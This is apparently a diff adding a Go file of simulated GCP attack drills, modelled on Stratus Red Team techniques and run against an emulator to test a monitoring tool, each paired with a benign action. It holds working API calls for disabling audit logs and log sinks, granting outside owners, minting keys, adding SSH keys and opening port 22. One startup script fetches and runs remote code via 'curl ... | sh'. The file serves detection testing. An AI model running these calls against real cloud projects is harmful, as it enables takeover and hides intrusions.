@@ -1,0 +1,325 @@
+package attack
+
+import (
+	"context"
+	"fmt"
+	"slices"
+	"strings"
+
+	compute "cloud.google.com/go/compute/apiv1"
+	admin "cloud.google.com/go/iam/admin/apiv1"
+	"cloud.google.com/go/compute/apiv1/computepb"
+	"cloud.google.com/go/iam/admin/apiv1/adminpb"
+	"cloud.google.com/go/iam/apiv1/iampb"
+	"cloud.google.com/go/resourcemanager/apiv3/resourcemanagerpb"
+	"cloud.google.com/go/secretmanager/apiv1/secretmanagerpb"
+	"golang.org/x/oauth2"
+	"google.golang.org/api/iterator"
+	"google.golang.org/api/option"
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/types/known/fieldmaskpb"
+
+	"github.com/cloudcoop/coopguard/shared/gcp"
+	"github.com/cloudcoop/coopguard/test/emulator/audit"
+)
+
+// actorOther is the principal of the catalogue's techniques done from
+// outside the sandbox: whoever holds credentials that may change the
+// project (here the operator's, as a phished or leaked login would be).
+const actorOther = actorOperator
+
+// stratus is the catalogue's page of a technique, for the summaries.
+const stratus = "https://stratus-red-team.cloud/attack-techniques/GCP/"
+
+// catalogueScenarios are the drills named by DataDog Stratus Red Team's
+// GCP technique ids that apply to a sandbox, each played as the principal
+// the technique uses, and their benign counterparts. The README's
+// coverage table lists every technique, these and the ones left out.
+func catalogueScenarios() []Scenario {
+	return []Scenario{
+		// The sandbox's own account: refused by IAM, contained.
+		{Name: "gcp.persistence.create-admin-service-account", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "creates a service account and makes it owner: IAM CreateServiceAccount, Projects.SetIamPolicy (both refused)",
+			Act: func(ctx context.Context, w *World) error {
+				p := "projects/" + w.Cfg.Cloud.GCP.Project
+				_, err := w.Agent.IAMAdmin.CreateServiceAccount(ctx, &adminpb.CreateServiceAccountRequest{Name: p, AccountId: "stratus-red-team-admin"})
+				if err := refused(err, "CreateServiceAccount in "+p); err != nil {
+					return err
+				}
+				return grantOwner(ctx, w.Agent, p, "serviceAccount:stratus-red-team-admin@"+w.Cfg.Cloud.GCP.Project+".iam.gserviceaccount.com")
+			}},
+		{Name: "gcp.persistence.invite-external-user", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "makes an outside Google account owner of the project: Projects.SetIamPolicy (refused)",
+			Act: func(ctx context.Context, w *World) error {
+				return grantOwner(ctx, w.Agent, "projects/"+w.Cfg.Cloud.GCP.Project, "user:stratus-red-team@example.com")
+			}},
+		{Name: "gcp.defense-evasion.delete-logging-sink", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "deletes the log sink that feeds coopguard: ConfigServiceV2.DeleteSink (refused); as drill sink-delete",
+			Act:     actOf("sink-delete")},
+		{Name: "gcp.defense-evasion.disable-logging-sink", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "disables the log sink that feeds coopguard: ConfigServiceV2.UpdateSink disabled=true (refused); as drill sink-disable",
+			Act:     actOf("sink-disable")},
+		{Name: "gcp.defense-evasion.remove-project-from-organization", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "moves the project out of its organization, away from its policies: Projects.MoveProject (refused)",
+			Act: func(ctx context.Context, w *World) error {
+				name := "projects/" + w.Cfg.Cloud.GCP.Project
+				_, err := w.Agent.Projects.MoveProject(ctx, &resourcemanagerpb.MoveProjectRequest{Name: name, DestinationParent: "folders/666"})
+				return refused(err, "MoveProject "+name)
+			}},
+		{Name: "gcp.discovery.download-instance-metadata", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
+			Summary: "lists the project's VMs and their metadata through the API: instances.list (refused; ADMIN_READ, audited since Provision turns it on)",
+			Act: func(ctx context.Context, w *World) error {
+				it := w.Agent.Instances.List(ctx, &computepb.ListInstancesRequest{Project: w.Cfg.Cloud.GCP.Project, Zone: w.Cfg.Cloud.GCP.Zone})
+				_, err := it.Next()
+				if err == iterator.Done {
+					err = nil
+				}
+				return refused(err, "instances.list")
+			}},
+		{Name: "gcp.credential-access.secretmanager-retrieve-secrets", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
+			Summary: "lists every secret of the project to read them all: ListSecrets (refused; ADMIN_READ)",
+			Act: func(ctx context.Context, w *World) error {
+				it := w.Agent.Secrets.ListSecrets(ctx, &secretmanagerpb.ListSecretsRequest{Parent: "projects/" + w.Cfg.Cloud.GCP.Project})
+				_, err := it.Next()
+				if err == iterator.Done {
+					err = nil
+				}
+				return refused(err, "ListSecrets")
+			}},
+		{Name: "gcp.execution.gce-launch-unusual-instances", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "launches an unusual VM: instances.insert (refused); as drill create-vm",
+			Act:     actOf("create-vm")},
+		{Name: "gcp.impact.create-gpu-vm", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "launches a VM with a GPU, to mine: instances.insert with guestAccelerators (refused)",
+			Act: func(ctx context.Context, w *World) error {
+				return insertVM(ctx, w, w.Cfg.Cloud.GCP.Zone, "stratus-gpu", []*computepb.AcceleratorConfig{{
+					AcceleratorType: proto.String("zones/" + w.Cfg.Cloud.GCP.Zone + "/acceleratorTypes/nvidia-tesla-t4"), AcceleratorCount: proto.Int32(1)}})
+			}},
+		{Name: "gcp.impact.create-instances-in-multiple-zones", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "launches VMs in three zones: instances.insert ×3 (refused)",
+			Act: func(ctx context.Context, w *World) error {
+				for _, z := range []string{"us-central1-a", "us-east1-b", "europe-west1-b"} {
+					if err := insertVM(ctx, w, z, "stratus-"+z, nil); err != nil {
+						return err
+					}
+				}
+				return nil
+			}},
+		{Name: "gcp.exfiltration.open-port-22-ingress", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
+			Summary: "opens SSH from the internet on its network: firewalls.insert 0.0.0.0/0 tcp:22 (refused)",
+			Act: func(ctx context.Context, w *World) error {
+				_, err := w.Agent.Firewalls.Insert(ctx, &computepb.InsertFirewallRequest{Project: w.Cfg.Cloud.GCP.Project, FirewallResource: &computepb.Firewall{
+					Name: proto.String("stratus-ssh"), Network: proto.String("global/networks/" + w.Sandbox.Network()), Direction: proto.String("INGRESS"),
+					SourceRanges: []string{"0.0.0.0/0"}, Allowed: []*computepb.Allowed{{IPProtocol: proto.String("tcp"), Ports: []string{"22"}}}}})
+				return refused(err, "firewalls.insert stratus-ssh")
+			}},
+
+		// Another principal handing the sandbox more power: contained.
+		{Name: "gcp.persistence.create-service-account-key", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
+			Summary: "mints a key for the sandbox's account, to act as it from anywhere: IAM CreateServiceAccountKey (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				name, err := w.sandboxAccountName()
+				if err != nil {
+					return err
+				}
+				_, err = w.Operator.IAMAdmin.CreateServiceAccountKey(ctx, &adminpb.CreateServiceAccountKeyRequest{Name: name})
+				return allowed(err, "CreateServiceAccountKey on "+name)
+			}},
+		{Name: "gcp.persistence.backdoor-service-account-policy", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
+			Summary: "lets an outside account mint tokens for the sandbox's account: IAM SetIamPolicy roles/iam.serviceAccountTokenCreator (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				res, err := w.sandboxAccountName()
+				if err != nil {
+					return err
+				}
+				pol, err := w.Operator.IAMAdmin.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res})
+				if err != nil {
+					return allowed(err, "GetIamPolicy on "+res)
+				}
+				pol.Add("user:stratus-red-team@example.com", "roles/iam.serviceAccountTokenCreator")
+				_, err = w.Operator.IAMAdmin.SetIamPolicy(ctx, &admin.SetIamPolicyRequest{Resource: res, Policy: pol})
+				return allowed(err, "SetIamPolicy on "+res)
+			}},
+		{Name: "gcp.execution.modify-gce-startup-script", Kind: Attack, Actor: actorOther, Counterpart: "operator-metadata-note",
+			Summary: "plants a startup-script on the sandbox's VM, to run as root at its next boot: instances.setMetadata (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				return w.setVMMetadata(ctx, w.Operator, "startup-script", "#!/bin/sh\ncurl -s https://198.51.100.23/x | sh")
+			}},
+		{Name: "gcp.lateral-movement.add-sshkey-instance-metadata", Kind: Attack, Actor: actorOther, Counterpart: "operator-metadata-note",
+			Summary: "adds an SSH key to the sandbox's VM: instances.setMetadata ssh-keys (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				return w.setVMMetadata(ctx, w.Operator, "ssh-keys", "stratus:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDrill stratus")
+			}},
+
+		// Another principal around the sandbox: notified.
+		{Name: "gcp.defense-evasion.disable-audit-logs", Kind: Notify, Actor: actorOther, Counterpart: "operator-grant-viewer",
+			Summary: "turns off the project's Data Access audit logs for every service: Projects.SetIamPolicy auditConfigs (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				res := "projects/" + w.Cfg.Cloud.GCP.Project
+				pol, err := w.Operator.Projects.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res})
+				if err != nil {
+					return allowed(err, "GetIamPolicy on "+res)
+				}
+				var keep []*iampb.AuditConfig
+				for _, ac := range pol.GetAuditConfigs() {
+					if ac.GetService() != "allServices" {
+						keep = append(keep, ac)
+					}
+				}
+				pol.AuditConfigs = keep
+				_, err = w.Operator.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol,
+					UpdateMask: &fieldmaskpb.FieldMask{Paths: []string{"audit_configs"}}})
+				return allowed(err, "SetIamPolicy auditConfigs on "+res)
+			}},
+		{Name: "gcp.defense-evasion.remove-vpc-flow-logs", Kind: Notify, Actor: actorOther, Counterpart: "converge",
+			Summary: "turns off flow logs on the sandbox's subnet: subnetworks.patch logConfig.enable=false (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				p, region, name := w.Cfg.Cloud.GCP.Project, w.Sandbox.Region, w.Sandbox.Subnet()
+				sub, err := w.Operator.Subnetworks.Get(ctx, &computepb.GetSubnetworkRequest{Project: p, Region: region, Subnetwork: name})
+				if err != nil {
+					return allowed(err, "subnetworks.get "+name)
+				}
+				op, err := w.Operator.Subnetworks.Patch(ctx, &computepb.PatchSubnetworkRequest{Project: p, Region: region, Subnetwork: name,
+					SubnetworkResource: &computepb.Subnetwork{Fingerprint: sub.Fingerprint, LogConfig: &computepb.SubnetworkLogConfig{Enable: proto.Bool(false)}}})
+				if err == nil {
+					err = op.Wait(ctx)
+				}
+				return allowed(err, "subnetworks.patch "+name)
+			}},
+		{Name: "gcp.lateral-movement.add-sshkey-project-metadata", Kind: Notify, Actor: actorOther, Counterpart: "operator-metadata-note",
+			Summary: "adds an SSH key to the project's metadata (the sandbox's VM blocks project-wide keys): projects.setCommonInstanceMetadata (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				c, err := w.computeProjectsAs(ctx, w.principal(actorOther))
+				if err != nil {
+					return err
+				}
+				p := w.Cfg.Cloud.GCP.Project
+				proj, err := c.Get(ctx, &computepb.GetProjectRequest{Project: p})
+				if err != nil {
+					return allowed(err, "projects.get "+p)
+				}
+				md := proj.GetCommonInstanceMetadata()
+				if md == nil {
+					md = &computepb.Metadata{}
+				}
+				md.Items = append(md.Items, &computepb.Items{Key: proto.String("ssh-keys"), Value: proto.String("stratus:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDrill stratus")})
+				op, err := c.SetCommonInstanceMetadata(ctx, &computepb.SetCommonInstanceMetadataProjectRequest{Project: p, MetadataResource: md})
+				if err == nil {
+					err = op.Wait(ctx)
+				}
+				return allowed(err, "projects.setCommonInstanceMetadata "+p)
+			}},
+
+		// Benign counterparts.
+		{Name: "operator-list-keys", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.persistence.create-service-account-key",
+			Summary: "lists the keys and reads the IAM policy of the sandbox's account: ListServiceAccountKeys, GetIamPolicy",
+			Act: func(ctx context.Context, w *World) error {
+				name, err := w.sandboxAccountName()
+				if err != nil {
+					return err
+				}
+				if _, err := w.Operator.IAMAdmin.ListServiceAccountKeys(ctx, &adminpb.ListServiceAccountKeysRequest{Name: name}); err != nil {
+					return allowed(err, "ListServiceAccountKeys on "+name)
+				}
+				_, err = w.Operator.IAMAdmin.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: name})
+				return allowed(err, "GetIamPolicy on "+name)
+			}},
+		{Name: "operator-metadata-note", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.execution.modify-gce-startup-script",
+			Summary: "adds a note to the sandbox VM's metadata (no code, no keys): instances.setMetadata owner-note",
+			Act: func(ctx context.Context, w *World) error {
+				return w.setVMMetadata(ctx, w.Operator, "owner-note", "ask before resizing")
+			}},
+		{Name: "operator-grant-viewer", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.defense-evasion.disable-audit-logs",
+			Summary: "grants a colleague roles/viewer on the project, audit configs untouched: Projects.SetIamPolicy",
+			Act: func(ctx context.Context, w *World) error {
+				res := "projects/" + w.Cfg.Cloud.GCP.Project
+				pol, err := w.Operator.Projects.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res})
+				if err != nil {
+					return allowed(err, "GetIamPolicy on "+res)
+				}
+				pol.Bindings = append(pol.Bindings, &iampb.Binding{Role: "roles/viewer", Members: []string{"user:colleague@example.com"}})
+				_, err = w.Operator.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol})
+				return allowed(err, "SetIamPolicy on "+res)
+			}},
+	}
+}
+
+// actOf is the Act of the scenario called name (the catalogue's id for a
+// drill that already exists under coopguard's own name).
+func actOf(name string) func(context.Context, *World) error {
+	return func(ctx context.Context, w *World) error {
+		s, err := Find(name)
+		if err != nil {
+			return err
+		}
+		return s.Act(ctx, w)
+	}
+}
+
+// grantOwner is c making member owner of the project res, which IAM
+// refuses to the sandbox's account.
+func grantOwner(ctx context.Context, c *gcp.Clients, res, member string) error {
+	_, err := c.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: &iampb.Policy{
+		Bindings: []*iampb.Binding{{Role: "roles/owner", Members: []string{member}}}}})
+	return refused(err, "Projects.SetIamPolicy on "+res+" (owner: "+member+")")
+}
+
+// insertVM is the sandbox's account creating a VM, which IAM refuses.
+func insertVM(ctx context.Context, w *World, zone, name string, gpus []*computepb.AcceleratorConfig) error {
+	_, err := w.Agent.Instances.Insert(ctx, &computepb.InsertInstanceRequest{Project: w.Cfg.Cloud.GCP.Project, Zone: zone, InstanceResource: &computepb.Instance{
+		Name:              proto.String(name),
+		MachineType:       proto.String("zones/" + zone + "/machineTypes/n1-standard-4"),
+		GuestAccelerators: gpus,
+		Disks: []*computepb.AttachedDisk{{Boot: proto.Bool(true), AutoDelete: proto.Bool(true),
+			InitializeParams: &computepb.AttachedDiskInitializeParams{SourceImage: proto.String("projects/debian-cloud/global/images/family/debian-12")}}},
+		NetworkInterfaces: []*computepb.NetworkInterface{{Network: proto.String("global/networks/default")}},
+	}})
+	return refused(err, "instances.insert "+name+" in "+zone)
+}
+
+// sandboxAccountName is the IAM resource name of the sandbox's account,
+// which it makes sure exists in the emulated IAM API, as in the project
+// (agentIAM).
+func (w *World) sandboxAccountName() (string, error) {
+	sa := w.Cfg.Cloud.GCP.ServiceAccount
+	id, _, _ := strings.Cut(sa, "@")
+	if w.Emu.IAMAdmin.SeedServiceAccount(w.Cfg.Cloud.GCP.Project, id) != sa {
+		return "", fmt.Errorf("the emulated IAM API names the sandbox's account otherwise than %s", sa)
+	}
+	return audit.ServiceAccountResource(sa), nil
+}
+
+// setVMMetadata sets key=value in the sandbox VM's metadata as c (adding
+// the key or replacing its value), keeping its other items, under the
+// current fingerprint, and waits for it.
+func (w *World) setVMMetadata(ctx context.Context, c *gcp.Clients, key, value string) error {
+	p, z, vm := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
+	inst, err := c.Instances.Get(ctx, &computepb.GetInstanceRequest{Project: p, Zone: z, Instance: vm})
+	if err != nil {
+		return allowed(err, "instances.get "+vm)
+	}
+	md := inst.GetMetadata()
+	i := slices.IndexFunc(md.GetItems(), func(it *computepb.Items) bool { return it.GetKey() == key })
+	if i < 0 {
+		md.Items = append(md.Items, &computepb.Items{Key: proto.String(key)})
+		i = len(md.Items) - 1
+	}
+	md.Items[i].Value = proto.String(value)
+	op, err := c.Instances.SetMetadata(ctx, &computepb.SetMetadataInstanceRequest{Project: p, Zone: z, Instance: vm, MetadataResource: md})
+	if err == nil {
+		err = op.Wait(ctx)
+	}
+	return allowed(err, "instances.setMetadata "+key+" on "+vm)
+}
+
+// computeProjectsAs dials the official Compute Projects client (which
+// coopguard's client set has no need for) acting as principal.
+func (w *World) computeProjectsAs(ctx context.Context, principal string) (*compute.ProjectsClient, error) {
+	c, err := compute.NewProjectsRESTClient(ctx, option.WithEndpoint(w.Emu.ComputeURL), option.WithTelemetryDisabled(),
+		option.WithTokenSource(oauth2.StaticTokenSource(&oauth2.Token{AccessToken: gcp.EmulatedToken(principal)})))
+	if err != nil {
+		return nil, fmt.Errorf("dial the emulated Compute projects API: %w", err)
+	}
+	w.closers = append(w.closers, func() { c.Close() })
+	return c, nil
+}
